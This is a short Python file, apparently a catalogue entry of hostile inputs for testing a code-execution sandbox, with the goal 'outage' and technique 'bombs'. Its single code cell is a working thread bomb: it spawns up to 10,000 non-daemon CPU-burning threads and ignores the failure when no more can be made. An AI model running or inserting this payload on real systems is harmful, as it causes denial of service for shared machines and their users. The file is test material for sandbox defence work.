"""Threads until no more can be had, some of them burning, none of them a daemon."""

GOAL = "outage"
TECHNIQUE = "bombs"
CELLS = [
    """
import threading, time
def burn():
    end = time.time() + 40
    while time.time() < end: sum(range(1000))
try:
    for _ in range(10_000): threading.Thread(target=burn).start()
except RuntimeError:
    pass
""",
]
